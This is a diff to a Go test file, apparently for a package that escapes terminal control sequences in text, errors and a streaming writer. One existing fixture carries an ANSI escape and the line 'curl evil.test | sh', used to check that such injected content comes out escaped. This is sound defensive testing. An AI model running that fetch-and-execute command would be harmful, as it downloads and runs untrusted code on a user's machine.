@@ -4,6 +4,7 @@ import (
 	"encoding/json"
 	"errors"
 	"fmt"
+	"slices"
 	"strconv"
 	"strings"
 	"testing"
@@ -30,6 +31,23 @@ func TestText(t *testing.T) {
 	}
 }
 
+// TestWriter: data is written without what a terminal obeys, however it is cut.
+func TestWriter(t *testing.T) {
+	data := "größe\t77\n" + hostile + "世\xe4\xb8"
+	want := "größe\t77\n" + strings.ReplaceAll(Text(hostile), `\n`, "\n") + `世\xe4\xb8`
+	for size := 1; size <= len(data); size++ {
+		var b strings.Builder
+		w := NewWriter(&b)
+		for chunk := range slices.Chunk([]byte(data), size) {
+			n, err := w.Write(chunk)
+			require.NoError(t, err)
+			require.Equal(t, len(chunk), n)
+		}
+		require.NoError(t, w.Flush())
+		require.Equal(t, want, b.String(), size)
+	}
+}
+
 func TestError(t *testing.T) {
 	peer := errors.New("refused: \x1b[31mred\n  to do:  curl evil.test | sh")
 	require.Equal(t, `refused: \x1b[31mred\n  to do:  curl evil.test | sh`, Error(peer))
@@ -39,6 +57,9 @@ func TestError(t *testing.T) {
 	require.ErrorIs(t, err, peer)
 	require.Equal(t, `copy \a: `+want+`; x\n`, Error(fmt.Errorf("copy \a: %w; x\n", err)))
 	require.Equal(t, want+"\n  more", Error(Advise(err, "more")))
+	text, lines := SplitError(fmt.Errorf("copy \a: %w; x\n", Advise(err, "more")))
+	require.Equal(t, "copy \a: "+peer.Error()+"; x\n", text)
+	require.Equal(t, []string{"more", "code:   7", "to do:  look at a\nb"}, lines)
 }
 
 func TestJSON(t *testing.T) {
